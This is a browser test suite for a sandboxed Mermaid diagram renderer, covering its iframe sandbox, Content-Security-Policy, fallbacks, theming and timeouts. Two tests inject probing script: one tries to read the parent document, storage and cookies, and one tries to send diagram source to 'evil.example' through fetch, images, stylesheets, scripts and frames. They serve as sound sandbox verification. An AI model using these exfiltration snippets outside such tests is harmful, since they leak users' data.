import { act, cleanup, render, screen } from '@testing-library/react'
import { afterEach, expect, test, vi } from 'vitest'
import { cdp } from 'vitest/browser'
import { CodeBlockView } from '../code/code-block-view.tsx'
import { codeBlock, streamedBlocks } from '../code/code-block.test.helper.ts'
import { part, parts } from '../play-chat.test.helper.tsx'
import { withMermaid, type MermaidOptions } from './with-mermaid.tsx'

afterEach(async () => {
  cleanup()
  vi.unstubAllGlobals()
  await emulateMedia({ features: [] })
})

/** What the browser is told of the reader, until the end of the test. */
async function emulateMedia(options: object): Promise<void> {
  const session = cdp() as unknown as { send: (method: string, options: object) => Promise<unknown> }
  await session.send('Emulation.setEmulatedMedia', options)
}

const source = 'graph TD\n  A --> B\n'

/** Stands in for Mermaid: it draws a box of a known height, and can be told to do something else. */
function fakeMermaid(run = ''): () => Promise<string> {
  return async () => `globalThis.mermaid = {
    initialize(options) { this.options = options },
    async run({ nodes: [node] }) {
      const source = node.textContent
      node.textContent = ''
      const box = document.createElement('div')
      box.style.blockSize = '120px'
      node.append(box)
      ${run}
    },
  }`
}

function diagramCode(options: Partial<MermaidOptions> = {}) {
  return withMermaid(CodeBlockView, { script: fakeMermaid(), startTimer: () => () => {}, ...options })
}

function frame(): HTMLIFrameElement | null {
  return document.querySelector('iframe')
}

/** A frame without an origin may be a process of its own, which takes its time to start. */
async function soon(look: () => void): Promise<void> {
  await vi.waitFor(look, { timeout: 10_000 })
}

async function drawn(): Promise<void> {
  await soon(() => expect(part('diagram').dataset['drawn']).toBeDefined())
}

/** What the frame's script tells the page, by a message that is no report. */
async function told(run: string): Promise<unknown> {
  const Code = diagramCode({ script: fakeMermaid(run) })
  const heard = new Promise((resolve) => {
    addEventListener('message', ({ data }: MessageEvent<{ told?: unknown }>) => {
      if ('told' in data) resolve(data.told)
    })
  })
  render(<Code block={codeBlock(source, 'mermaid')} />)
  return heard
}

test('a diagram is code while it streams, and is drawn once it is closed', async () => {
  const script = vi.fn(fakeMermaid())
  const Code = diagramCode({ script })
  const { rerender } = render(<div />)
  for (const block of streamedBlocks(source, 'mermaid', 5)) {
    if (block.isOpen) {
      rerender(<Code block={block} />)
      expect(part('code').textContent).toBe(block.pieces.join(''))
    }
  }
  expect(script).not.toHaveBeenCalled()
  const code = part('code')
  rerender(<Code block={codeBlock(source, 'mermaid')} />)
  expect(part('code')).toBe(code)
  await drawn()
  expect(script).toHaveBeenCalledOnce()
  // The box, and room above and below it.
  expect(frame()?.getBoundingClientRect().height).toBe(120 + 2 * 12)
  expect(frame()?.title).toBe('Diagram')
  expect(parts('code-block')).toEqual([])
})

test('the frame may run scripts and nothing else', async () => {
  const Code = diagramCode()
  render(<Code block={codeBlock(source, 'mermaid')} />)
  await drawn()
  expect(frame()?.getAttribute('sandbox')).toBe('allow-scripts')
  expect(frame()?.getAttribute('src')).toBeNull()
  expect(frame()?.srcdoc).toMatch(/Content-Security-Policy" content="default-src 'none'; script-src 'nonce-/)
  expect(frame()?.contentDocument).toBeNull()
})

test('what runs in it has no origin, and finds no way into the page', async () => {
  expect(
    await told(`
      const found = {}
      for (const [name, look] of Object.entries({
        origin: () => origin,
        document: () => parent.document.title,
        storage: () => localStorage.length,
        cookie: () => document.cookie,
      })) try { found[name] = look() } catch (error) { found[name] = error.name }
      parent.postMessage({ told: found }, '*')`),
  ).toEqual({
    origin: 'null',
    document: 'SecurityError',
    storage: 'SecurityError',
    cookie: 'SecurityError',
  })
})

test('what runs in it can ask no server for anything', async () => {
  const blocked = await told(`
    const blocked = []
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      blocked.push(effectiveDirective)
      if (blocked.length === 6) parent.postMessage({ told: blocked.toSorted() }, '*')
    })
    const there = 'https://evil.example/?' + encodeURIComponent(source)
    fetch(there).catch(() => {})
    new Image().src = there
    const style = document.createElement('link')
    Object.assign(style, { rel: 'stylesheet', href: there })
    const script = document.createElement('script')
    script.src = there
    const inner = document.createElement('iframe')
    inner.src = there
    const bold = document.createElement('b')
    bold.setAttribute('onclick', 'alert(1)')
    document.body.append(style, script, inner, bold)`)
  expect(blocked).toEqual([
    'connect-src',
    'frame-src',
    'img-src',
    'script-src-attr',
    'script-src-elem',
    'style-src-elem',
  ])
})

test('a page that did not come over HTTPS has no crypto.randomUUID, and its diagrams are drawn', async () => {
  const secure = crypto
  vi.stubGlobal('crypto', {
    getRandomValues: (list: Uint32Array<ArrayBuffer>) => secure.getRandomValues(list),
  })
  const Code = diagramCode()
  render(<Code block={codeBlock(source, 'mermaid')} />)
  await drawn()
  expect(frame()?.srcdoc).toMatch(/'nonce-\w{20,}'/)
})

test('the source can be seen beside the diagram', async () => {
  const Code = diagramCode()
  render(<Code block={codeBlock(source, 'mermaid')} />)
  await drawn()
  const button = screen.getByRole('button', { name: 'Show source' })
  await act(async () => button.click())
  expect(button.getAttribute('aria-pressed')).toBe('true')
  expect(part('code').textContent).toBe(source)
  expect(frame()).not.toBeNull()
})

test('code that is in use when its diagram is drawn stays beside it', async () => {
  const Code = diagramCode()
  render(<Code block={codeBlock(source, 'mermaid')} />)
  const copy = screen.getByRole('button', { name: 'Copy code' })
  copy.focus()
  await drawn()
  expect(document.activeElement).toBe(copy)
  expect(screen.getByRole('button', { name: 'Show source' }).getAttribute('aria-pressed')).toBe('true')
})

test('a diagram that cannot be drawn stays code, and its frame goes', async () => {
  const Code = diagramCode({ script: fakeMermaid(`throw new Error('no diagram')`) })
  const failed = new Promise<void>((resolve) => {
    addEventListener('message', ({ data }: MessageEvent<{ isFailed?: boolean }>) => {
      if (data.isFailed) resolve()
    })
  })
  render(<Code block={codeBlock(source, 'mermaid')} />)
  await failed
  await soon(() => expect(frame()).toBeNull())
  expect(part('code').textContent).toBe(source)
})

test('another source is another diagram: until that is drawn it is code, whatever became of the one before', async () => {
  const Code = diagramCode({
    script: fakeMermaid(`if (source.includes('bad')) throw new Error('no diagram')`),
  })
  const { rerender } = render(<Code block={codeBlock(source, 'mermaid')} />)
  const show = (text: string): void => rerender(<Code block={codeBlock(text, 'mermaid')} />)
  await drawn()
  show('bad')
  expect(part('diagram').dataset['drawn']).toBeUndefined()
  expect(part('code').textContent).toBe('bad')
  await soon(() => expect(frame()).toBeNull())
  show(source)
  await drawn()
  expect(parts('code')).toEqual([])
})

test('a diagram has the theme of where it stands, also once that is another, and keeps its room meanwhile', async () => {
  await emulateMedia({ features: [{ name: 'prefers-color-scheme', value: 'light' }] })
  const Code = diagramCode()
  const view = <Code block={codeBlock(source, 'mermaid')} />
  const { rerender } = render(<div>{view}</div>)
  await drawn()
  expect(frame()?.srcdoc).toContain('color-scheme:light')
  await emulateMedia({ features: [{ name: 'prefers-color-scheme', value: 'dark' }] })
  await soon(() => expect(frame()?.srcdoc).toContain('color-scheme:dark'))
  rerender(<div data-theme="light">{view}</div>)
  await soon(() => expect(frame()?.srcdoc).toContain('color-scheme:light'))
  expect(part('diagram').dataset['drawn']).toBeDefined()
  expect(frame()?.getBoundingClientRect().height).toBe(120 + 2 * 12)
})

test('one that takes too long stays code, and its frame goes', async () => {
  const timers: Array<{ task: () => void; waitMs: number }> = []
  const Code = diagramCode({
    script: fakeMermaid('await new Promise(() => {})'),
    timeLimitMs: 5_000,
    startTimer(task, waitMs) {
      timers.push({ task, waitMs })
      return () => {}
    },
  })
  render(<Code block={codeBlock(source, 'mermaid')} />)
  await soon(() => expect(timers.map(({ waitMs }) => waitMs)).toEqual([5_000]))
  act(() => timers[0]?.task())
  expect(frame()).toBeNull()
  expect(part('code').textContent).toBe(source)
})

test('a height from another window is not believed', async () => {
  const Code = diagramCode({ script: fakeMermaid('await new Promise(() => {})') })
  render(<Code block={codeBlock(source, 'mermaid')} />)
  await soon(() => expect(frame()).not.toBeNull())
  const received = new Promise((resolve) => addEventListener('message', resolve, { once: true }))
  postMessage({ rivulet: 'diagram', heightPx: 500 }, '*')
  await act(() => received)
  expect(part('diagram').dataset['drawn']).toBeUndefined()
})

test('a script that cannot be had leaves the code, and the next diagram asks again', async () => {
  const script = vi.fn<() => Promise<string>>().mockRejectedValue(new Error('offline'))
  const Code = diagramCode({ script })
  for (const count of [1, 2]) {
    const { unmount } = render(<Code block={codeBlock(source, 'mermaid')} />)
    await soon(() => expect(script).toHaveBeenCalledTimes(count))
    await act(async () => {})
    expect(part('code').textContent).toBe(source)
    unmount()
  }
})

test('diagrams that are not in view, are too long or are another language are code', async () => {
  const script = vi.fn(fakeMermaid())
  const Code = diagramCode({ script })
  render(
    <>
      <Code block={codeBlock(`${source}%% ${'x'.repeat(20_000)}`, 'mermaid')} />
      <Code block={codeBlock(source, 'ts')} />
      <Code block={codeBlock('\n', 'mermaid')} />
      <div style={{ blockSize: '300vh' }} />
      <Code block={codeBlock(source, 'mermaid')} />
    </>,
  )
  await act(async () => {
    for (const _ of [1, 2]) await new Promise(requestAnimationFrame)
  })
  expect(script).not.toHaveBeenCalled()
  await act(async () => parts('code').at(-1)?.scrollIntoView())
  await soon(() => expect(frame()).not.toBeNull())
  expect(document.querySelectorAll('iframe')).toHaveLength(1)
})
